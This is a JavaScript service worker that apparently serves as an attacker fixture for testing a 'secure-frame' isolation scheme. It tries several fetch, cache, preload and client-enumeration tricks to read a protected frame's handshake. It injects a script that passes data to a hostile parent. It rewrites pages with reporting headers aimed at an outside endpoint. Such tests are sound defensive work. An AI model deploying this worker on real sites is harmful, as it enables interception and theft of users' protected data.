/* global self, location, caches */
/** An attacker's service worker: tries to read the handshake that it stands in the way of. `?plan=…` says how. */
const plan = new URL(location.href).searchParams.get('plan');
const report = new BroadcastChannel('service-worker');
const tell = (what, value) => report.postMessage(`${what}: ${JSON.stringify(value)}`);

self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) =>
  event.waitUntil(
    (async () => {
      if (plan === 'preload') await self.registration.navigationPreload?.enable();
      await self.clients.claim();
      tell('ready', plan);
    })(),
  ),
);

async function describe(response) {
  const { status, type, url, redirected } = response;
  const body = await response
    .clone()
    .text()
    .catch((error) => String(error));
  return { status, type, url, redirected, headers: [...response.headers], body: body.slice(0, 2000) };
}

const tries = {
  as_it_is: (request) => fetch(request),
  cloned: (request) => fetch(request.clone()),
  copied: (request) => fetch(new Request(request)),
  followed: (request) => fetch(new Request(request, { redirect: 'follow' })),
  same_origin: (request) => fetch(new Request(request, { mode: 'same-origin', redirect: 'follow' })),
  cors: (request) => fetch(request.url, { mode: 'cors', credentials: 'include' }),
  no_cors: (request) => fetch(request.url, { mode: 'no-cors', credentials: 'include' }),
  manual: (request) => fetch(request.url, { redirect: 'manual', credentials: 'include' }),
  headers: (request) =>
    fetch(request.url, { headers: { ...Object.fromEntries(request.headers), 'Sec-Fetch-Dest': 'iframe' } }),
};

self.addEventListener('fetch', (event) => {
  const { request } = event;
  tell('asked', {
    url: request.url,
    destination: request.destination,
    mode: request.mode,
    headers: [...request.headers],
  });
  if (!request.url.includes('/.lunasec/secure-frame')) {
    if (plan === 'report' && request.mode === 'navigate' && request.destination === 'document')
      event.respondWith(
        (async () => {
          const page = await fetch(request);
          const to = new URL(location.href).searchParams.get('to');
          return new Response(page.body, {
            headers: {
              'content-type': 'text/html',
              'content-security-policy-report-only': `frame-src 'self'; report-uri ${to}/csp`,
              'reporting-endpoints': `default="${to}/reporting"`,
              'cross-origin-opener-policy-report-only': 'same-origin; report-to="default"',
              'cross-origin-embedder-policy-report-only': 'require-corp; report-to="default"',
              nel: '{"report_to":"default","max_age":100,"success_fraction":1}',
            },
          });
        })(),
      );
    return;
  }
  if (plan === 'report') return;
  event.respondWith(
    (async () => {
      if (plan === 'preload') {
        const response = await event.preloadResponse;
        tell('preload', response && (await describe(response)));
        return response ?? fetch(request);
      }
      if (plan === 'own page')
        return new Response(
          '<script>onmessage = ({ data }) => parent.hostile.keep("fake", data); parent.hostile.keep("fake", name)</script>',
          {
            headers: { 'content-type': 'text/html' },
          },
        );
      if (plan === 'cache') {
        const cache = await caches.open('stolen');
        const response = await fetch(request);
        await cache.put(request, response.clone()).catch((error) => tell('cache', String(error)));
        for (const kept of await cache.matchAll()) tell('cache', await describe(kept));
        return response;
      }
      for (const [name, attempt] of Object.entries(tries))
        try {
          tell(name, await describe(await attempt(request)));
        } catch (error) {
          tell(name, String(error));
        }
      for (const id of [event.resultingClientId, event.clientId]) {
        // One that is still to be is waited for, which would be for ever.
        const client = await Promise.race([
          self.clients.get(id),
          new Promise((resolve) => setTimeout(resolve, 50)),
        ]);
        tell('client', client && { url: client.url, type: client.type, frameType: client.frameType });
      }
      const clients = await self.clients.matchAll({ includeUncontrolled: true, type: 'all' });
      tell(
        'clients',
        clients.map(({ url, frameType }) => ({ url, frameType })),
      );
      tell(
        'entries',
        performance.getEntries().map((entry) => entry.toJSON()),
      );
      return fetch(request);
    })(),
  );
});
